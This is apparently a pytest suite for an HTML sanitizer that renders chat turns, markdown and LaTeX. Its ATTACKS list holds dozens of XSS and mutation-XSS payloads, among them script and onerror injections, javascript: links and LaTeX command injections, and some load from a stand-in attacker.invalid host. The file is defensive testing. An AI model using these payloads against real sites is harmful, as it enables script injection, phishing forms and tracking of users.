"""Hostile text never becomes markup of its own making; honest text is laid out."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prefdata.ui.rendering import formulas, highlight, markup

ATTACKS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT >",
    "<img src=x onerror=window.pwned=1>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>*{display:none}</style>",
    "<style>@import 'http://attacker.invalid/x.css';</style>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=http://attacker.invalid><button>Sign in</button></form>",
    "<base href=http://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<object data=http://attacker.invalid/x></object><embed src=http://attacker.invalid/y>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='position:fixed;inset:0;background:url(http://attacker.invalid/x)'>x</div>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](http://a.invalid "onmouseover=alert(1)")',
    '[x](http://a.invalid" onmouseover="alert(1))',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<http://attacker.invalid/auto>",
    "[x][r]\n\n[r]: javascript:alert(1) '<script>alert(1)</script>'",
    "![x](http://attacker.invalid/pixel.png)",
    "![<img src=x onerror=alert(1)>](http://attacker.invalid/p.png)",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][r]\n\n[r]: http://attacker.invalid/r.png",
    "[![x](http://attacker.invalid/i.png)](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    '```html" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
    "```html\n<img src=x onerror=alert(1)><script>window.pwned=1</script>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    "# <svg onload=alert(1)>",
    r"$\href{javascript:window.pwned=1}{x}$",
    r"$\text{<img src=x onerror=window.pwned=1>}$",
    r"$\text{</math><script>window.pwned=1</script>}$",
    r"$$\mbox{<svg onload=window.pwned=1>}$$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\unicode{x3c;<img src=x onerror=alert(1)>}$",
    r"$\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\htmlClass{a\" onclick=alert(1)}{x}$",
    r"$\class{a\" onclick=alert(1) \"}{x} \style{position:fixed;background:url(//attacker.invalid)}{x}$",
    r"$\color{red\" onclick=alert(1) \"}{x} \textcolor{url(javascript:alert(1))}{y}$",
    r"$\hspace{1em\" onclick=alert(1) \"} \rule{9000em}{9000em}$",
    r"$\includegraphics{http://attacker.invalid/x.png} \url{javascript:alert(1)}$",
    r"$\verb|<script>window.pwned=1</script>|$",
    r"$\left< \right> <script> a < b > c$",
    r"\(\text{<img src=x onerror=alert(1)>}\) \[\text{<iframe src=javascript:alert(1)>}\]",
    r"$\newcommand{\x}{<img src=x onerror=alert(1)>}\x$",
    r"\begin{align}\text{<script>alert(1)</script>}\end{align}",
    "$a$<script>`$b$`</script>$\\text{`<img src=x onerror=alert(1)>`}$",
    "[$\\text{](javascript:alert(1))}$](javascript:alert(2))",
    "**<b onmouseover=alert(1)>** ~~<s onclick=alert(1)>~~",
    # classics of mutation: what one parser reads as text, the next reads as markup
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'>",
    "<math><annotation-xml encoding='text/html'><script>window.pwned=1</script></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?xml <script>?>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "</div></div></body><script>window.pwned=1</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt> <img/src=x\x0conerror=alert(1)>",
    "\ud800<script>alert(1)</script>\udfff \ufffe\uffff \x85 \u202e<img src=x onerror=alert(1)>\u2066",
    "＜script＞alert(1)＜/script＞",
]

CLASSES = re.compile(r"markup(-[a-z]+)*|[a-z][a-z0-9]{0,2}")


class Seen(HTMLParser):
    """Reads HTML as tags, attributes and text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    @property
    def classes(self) -> set[str | None]:
        return {attributes["class"] for _, attributes in self.tags if "class" in attributes}


def safe(page: str) -> Seen:
    seen = Seen(page)
    page.encode()
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", page)
    assert seen.names <= markup.TAGS
    for tag, attributes in seen.tags:
        assert set(attributes) <= markup.ATTRIBUTES.get(tag, set()), (tag, attributes)
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("src", "href", "style", "srcdoc", "xlink:href", "action", "id", "name")
            assert name != "class" or CLASSES.fullmatch(str(value))
            assert not re.search(r"script|url|http|[<>\"'()&:;]", str(value))
    return seen


def every_way(text: str) -> list[str]:
    turned = markup.turns([{"role": text, "content": text, "name": text, "tool_calls": text, "tool_call_id": text}])
    cut = markup.segments(text, [{"end": len(text) // 2}, {"end": len(text)}])
    return [
        markup.markdown(text),
        markup.plain(text),
        *(turn[key] for turn in turned for key in ("role", "html")),
        *(part["html"] for part in cut),
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_markup(attack: str) -> None:
    for wrapped in (attack, f"> - {attack}", f"| {attack} |\n|---|\n| {attack} |", f"**{attack}** $x$ {attack}"):
        for page in every_way(wrapped):
            safe(page)


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_lock_holds_alone(attack: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first stage without nh3, and nh3 on the attack itself."""
    safe(markup._CLEANER.clean(attack.translate(markup._REPLACED)))

    class Open:
        clean = staticmethod(lambda page: page)

    monkeypatch.setattr(markup, "_CLEANER", Open)
    safe(markup.markdown(attack))


def test_the_converter_alone_is_not_safe() -> None:
    """Why `formulas` takes its tree and not its string; should this fail one day, the module may become simpler."""
    from latex2mathml.converter import convert

    with pytest.raises(AssertionError):
        safe(convert(r"\text{<img src=x onerror=alert(1)>}"))


DELIMITERS = r"$ $$ \( \) \[ \] ` ``` ~~~ ** _ ~~ [ ]( ) ![ < | \ &"
PIECES = st.sampled_from(
    [attack[: len(attack) // 2] for attack in ATTACKS]
    + [attack[len(attack) // 2 :] for attack in ATTACKS]
    + DELIMITERS.split()
    + ["\n", "\n\n", "- ", "> ", "    ", "|-|\n", "[x]: ", r"\text{", r"\frac{", "}", "&#", "\u202e", "\x00", "\r"]
)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.lists(PIECES, max_size=14).map("".join), st.text(max_size=60)))
def test_no_mixture_becomes_markup(text: str) -> None:
    for page in every_way(text):
        safe(page)


@settings(deadline=None)
@given(st.text(st.characters(codec=None, categories=None), max_size=80) | st.lists(PIECES, max_size=6).map("".join))
def test_plain_keeps_every_character_in_its_place(text: str) -> None:
    """Spans are character offsets into what the browser shows."""
    shown = safe(markup.plain(text)).text
    assert len(shown) == len(text)
    for there, here in zip(shown, text, strict=True):
        assert there == here or there == chr(0x2400 + ord(here) % 0x5E) or "\ud800" <= here <= "\udfff"


def test_controls_are_shown_and_isolated() -> None:
    seen = safe(markup.plain("a\x00b\x1b\x7f\u202ec\u2066\x85\r\n\t\ud800"))
    assert seen.text == "a␀b␛␡\u202ec\u2066\x85\r\n\t\ufffd"
    titles = [attributes.get("title") for tag, attributes in seen.tags if tag == "bdi"]
    assert titles == ["U+202E", "U+2066", "U+0085"]
    laid = safe(markup.markdown("a\u202e *b*\n\n```python\nx = '\u202e'\n```\n\n$\\text{\u202e}$"))
    assert [tag for tag, _ in laid.tags].count("bdi") == 3  # the formula stays source: there too it is isolated
    assert "math" not in laid.names


def test_markdown_is_laid_out() -> None:
    page = markup.markdown(
        "# Title\n\n| a | b |\n|:--|--:|\n| 1 | ~~2~~ |\n\n- [x] done\n- [ ] open\n\n"
        "1. *one*\n2. **two**\n\n> said\n\n---\n"
    )
    seen = safe(page)
    assert {"h1", "table", "thead", "th", "td", "s", "ul", "ol", "li", "em", "strong", "blockquote", "hr"} <= seen.names
    assert {"markup", "markup-left", "markup-right", "markup-task"} <= seen.classes
    assert "☑ done" in seen.text
    assert "☐ open" in seen.text
    assert ("ol", {"start": "3"}) in safe(markup.markdown("3. x")).tags


def test_code_is_highlighted_and_kept() -> None:
    code = "def f(x):\n    return '<b>' + x\n"
    seen = safe(markup.markdown(f"```python\n{code}```"))
    assert {"markup-code", "k", "nf", "s1"} <= seen.classes
    assert code in seen.text
    for language in ("no-such-language", "", "brainfuck", "python<script>"):
        other = safe(markup.markdown(f"```{language}\n{code}```"))
        assert code in other.text
        assert "span" not in other.names
    for dark in (False, True):
        rules = markup.code_css(dark).splitlines()
        assert len(rules) > 40
        assert all(rule.startswith(".markup-code") for rule in rules)
    assert markup.code_css(True) != markup.code_css(False)


def test_every_language_is_known_and_keeps_its_code() -> None:
    code = "a = 'b' <c> /* d */ # e\n\n\tf(g) { h: \"i\" }\n"
    for language in highlight.LANGUAGES:
        shown = highlight.spans(code, f"{language} title=x")
        assert shown is not None
        assert Seen(shown).text == code


@pytest.mark.parametrize(
    ("source", "tags", "text"),
    [
        (r"$\frac{a}{b}$", {"math", "mfrac", "mi"}, "ab"),
        (r"a $\sqrt{x} < y$ b", {"math", "msqrt"}, "a x<y b"),
        (r"\(x^2_i\)", {"math", "msubsup"}, "xi2"),
        ("\\[\nx\n= 1\n\\]", {"math", "mo"}, "x=1"),
        ("so \\[x = 1\\] holds", {"math"}, "so x=1 holds"),
        ("$$\n\\sum_{i=1}^n i\n$$", {"math", "munderover"}, "∑i=1n"),
        ("- \\[\n  x\n  = 1\n  \\]\n- b", {"math", "li"}, "x=1"),
        (r"$$\begin{aligned}a&=b\\c&=d\end{aligned}$$", {"math", "mtable", "mtr"}, "a=bc=d"),
        (r"$$\begin{equation}x\end{equation}$$", {"math", "mi"}, "x"),
        (r"$$a \\ b$$", {"mtable"}, "ab"),
        ("So\n\\begin{align*}\na &= b \\\\\n  &= c\n\\end{align*}\nis", {"mtable", "mtr"}, "a=b=c"),
        (r"$\begin{bmatrix}1&2\\3&4\end{bmatrix}$", {"mtable", "mtd"}, "[1234]"),
        (r"$\mathbb{R} \le \alpha \text{ if } a \& b$", {"mtext"}, "ℝ≤α\xa0if\xa0a&b"),
    ],
)
def test_formulas_become_mathml(source: str, tags: set[str], text: str) -> None:
    seen = safe(markup.markdown(source))
    assert tags <= seen.names
    assert text in seen.text


@pytest.mark.parametrize(
    "source",
    [
        r"\frac{",
        r"\htmlClass{a}{b}",
        r"\nosuchcommand x",
        r"x_a_b",
        r"\begin{nosuch}a&b\end{nosuch}",
        r"\def\x{a}\x",
        r"\newcommand{\x}{a}\x",
        "x" * (formulas.MAX_FORMULA + 1),
        "{" * 500 + "x" + "}" * 500,
    ],
)
def test_a_formula_that_cannot_be_converted_is_its_source(source: str) -> None:
    seen = safe(markup.markdown(f"a ${source}$ b"))
    assert "math" not in seen.names
    assert source in seen.text
    assert "markup-source" in seen.classes


def test_money_is_no_formula() -> None:
    seen = safe(markup.markdown("It costs $5 and $10, or $3-$4; `$x$` is code, \\$x\\$ is text."))
    assert "math" not in seen.names


def test_sizes_in_formulas_are_bounded() -> None:
    assert ' width="2em"' in markup.markdown(r"$a\rule{2em}{1em}b$")
    assert "9000" not in markup.markdown(r"$a\rule{9000em}{9000em}\hspace{-9000em}b$")


def test_links_and_images_are_text() -> None:
    seen = safe(
        markup.markdown('[here](http://a.invalid/x?y=1 "t") <http://b.invalid> ![alt](data:image/png;base64,AA)')
    )
    assert 'here (http://a.invalid/x?y=1 "t") http://b.invalid [image: alt (data:image/png;base64,AA)]' in seen.text
    long = safe(markup.markdown(f"[here](http://a.invalid/{'x' * 5000})")).text
    assert len(long) < 400
    assert "…" in long


@pytest.mark.parametrize(
    "text",
    [
        "a b\n" * 250_000,
        ">" * 10_000,
        "- " * 5_000 + "a",
        "".join("  " * level + "- a\n" for level in range(300)),
        "*a _b " * 500 + " b_ a*" * 500,
    ],
    ids=["a megabyte", "quotes", "lists", "indented lists", "emphasis"],
)
def test_too_much_is_shown_plain_and_says_so(text: str) -> None:
    seen = safe(markup.markdown(text))
    assert seen.text.startswith("Shown as plain text: ")
    assert seen.text.endswith(text)
    assert {"markup-note", "markup-plain"} <= seen.classes


@pytest.mark.parametrize("piece", ["[", "![", "![a](", "$$a\n", "\\[\n", "**a _b ", "[a\n"])
def test_costly_text_stops_at_its_time(piece: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each piece, repeated, makes a rule scan the text over and over."""
    monkeypatch.setattr(markup, "MAX_SECONDS", 0.02)
    seen = safe(markup.markdown(piece * 5_000))
    assert seen.text.startswith("Shown as plain text: its layout takes too long")
    assert piece * 5_000 in seen.text


def test_costly_code_is_plain(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(highlight, "MAX_SECONDS", 0.0)
    assert highlight.spans("int x;\n" * 100, "c") is None
    monkeypatch.undo()
    assert highlight.spans("int x;\n", "c") is not None
    long = "x = 1\n" * (highlight.MAX_CODE // 6 + 1)
    assert "span" not in safe(markup.markdown(f"```python\n{long}```")).names


def test_maths_beyond_its_share_is_source(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "MAX_MATHS", 4)
    tags = [tag for tag, _ in safe(markup.markdown("$x$ $y$ $a+b$ $z$")).tags]
    assert (tags.count("math"), tags.count("code")) == (2, 2)


def test_turns() -> None:
    call = '[{"function": {"name": "<b>", "arguments": "{}"}}]'
    first, second, third, fourth = markup.turns(
        [
            {"role": "user", "content": "**hi**"},
            {"role": "assistant", "content": None, "tool_calls": call},
            {"role": "tool", "content": "<i>", "name": "<b>", "tool_call_id": "c1", "tool_calls": None},
            {"role": "<script>", "content": None, "tool_calls": "{no json <b>"},
        ]
    )
    assert first["role"] == "user"
    assert "<strong>hi</strong>" in first["html"]
    assert first["plain"] == "**hi**"
    assert '    "function": {' in safe(second["html"]).text
    assert second["plain"] == safe(second["html"]).text
    assert safe(third["html"]).text == "<b> · c1<i>\n"
    assert third["plain"] == "<i>"
    assert fourth["role"] == "other"
    assert safe(fourth["html"]).text == "{no json <b>"


@given(st.text(max_size=40), st.lists(st.integers(-5, 60), min_size=1, max_size=5))
@settings(deadline=None)
def test_segments_hold_the_whole_text(text: str, ends: list[int]) -> None:
    parts = markup.segments(text, [{"end": end} for end in ends])
    assert len(parts) == len(ends)
    assert "".join(part["plain"] for part in parts) == text


def test_many_segments_share_their_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """A response of 100,000 lines is 100,000 steps."""
    monkeypatch.setattr(markup, "MAX_SECONDS", 0.02)
    parts = markup.segments("*x*\n" * 5_000, [{"end": 4 * end} for end in range(1, 5_001)])
    assert "<em>x</em>" in parts[0]["html"]
    assert "takes too long" in parts[-1]["html"]
    assert len(parts) == 5_000


def test_segments_cut_where_they_end() -> None:
    parts = markup.segments("one **two** three", [{"end": 4}, {"end": 11}, {"end": 17}])
    assert [part["plain"] for part in parts] == ["one ", "**two**", " three"]
    assert "<strong>two</strong>" in parts[1]["html"]
    assert markup.segments("x", []) == []


@given(st.text(max_size=300), st.integers(1, 50))
def test_excerpt_is_one_short_line(text: str, n: int) -> None:
    shown = markup.excerpt(text, n)
    assert len(shown) <= n
    assert "\n" not in shown


def test_excerpt() -> None:
    assert markup.excerpt("a <b>\n\n  c") == "a <b> c"
    assert markup.excerpt("one two three", 8) == "one two…"
    assert markup.excerpt("x" * 100_000, 3) == "xx…"
    assert markup.excerpt("a\x00\u202eb\ud800") == "a␀\ufffdb\ufffd"


RICH = r"""# Solving a quadratic

The roots of $ax^2 + bx + c = 0$ are, by **completing the square**,

\[
x
= \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}
\]

| discriminant | roots | example |
|:-------------|:-----:|--------:|
| $\Delta > 0$ | two real | $x^2 - 1$ |
| $\Delta = 0$ | one ~~or two~~ | $x^2$ |

```python
def roots(a: float, b: float, c: float) -> list[complex]:
    "Both roots, <b>not</b> sorted."
    root = cmath.sqrt(b * b - 4 * a * c)  # may be complex
    return [(-b + root) / (2 * a), (-b - root) / (2 * a)]
```

$$\begin{aligned}\nabla \cdot \mathbf{E} &= \frac{\rho}{\varepsilon_0} \\ \int_0^1 x\,dx &= \tfrac12\end{aligned}$$

- [x] read [the paper](https://example.org/paper "A title")
- [ ] see ![a plot](https://example.org/plot.png)
  1. nested `code` and \(\begin{bmatrix}1&2\\3&4\end{bmatrix}\)

> A quotation with <script>alert("raw HTML")</script> and a hidden turn: abc‮fed.

What cannot be converted: $\nosuch{x}$. \(f(x) = \begin{cases}1 & x > 0\\0 & \text{otherwise}\end{cases}\)
"""


@pytest.mark.browser
def test_a_browser_runs_nothing_and_loads_nothing(tmp_path: Path) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip("no chromium")
    shown = "".join(piece for attack in ATTACKS for piece in every_way(attack)) + markup.markdown(RICH)
    styles = "".join(markup.code_css(dark) for dark in (False, True))
    page_file = tmp_path / "page.html"
    page_file.write_text(f"<!doctype html><meta charset=utf-8><style>{styles}</style><body>{shown}<div id=again></div>")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(chromium), args=["--no-sandbox"])
        page = browser.new_page()
        dialogs, requests, errors = [], [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: requests.append(request.url))
        page.on("console", lambda message: errors.append(message.text))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(page_file.as_uri())
        page.evaluate(
            "document.getElementById('again').innerHTML = document.body.innerHTML"
        )  # what mutates, mutates here
        page.mouse.move(200, 200)
        page.wait_for_timeout(200)
        assert page.evaluate("typeof window.pwned") == "undefined"
        active = "script, style, iframe, img, svg, object, embed, form, input, a, link, base, [onerror], [style]"
        assert page.evaluate(f"document.body.querySelectorAll({active!r}).length") == 0
        height = page.evaluate("document.querySelector('math mfrac').getBoundingClientRect().height")
        kept = page.evaluate(
            "html => { const box = document.createElement('div'); box.innerHTML = html; return box.textContent }",
            markup.plain(html_text := "\n a\r\n\t<b>&amp; é😀\u202ex "),
        )
        browser.close()
    assert (dialogs, errors, requests) == ([], [], [page_file.as_uri()])
    assert height > 10  # MathML is laid out, not shown as text
    assert kept == html.unescape(html_text.replace("&amp;", "&amp;amp;"))
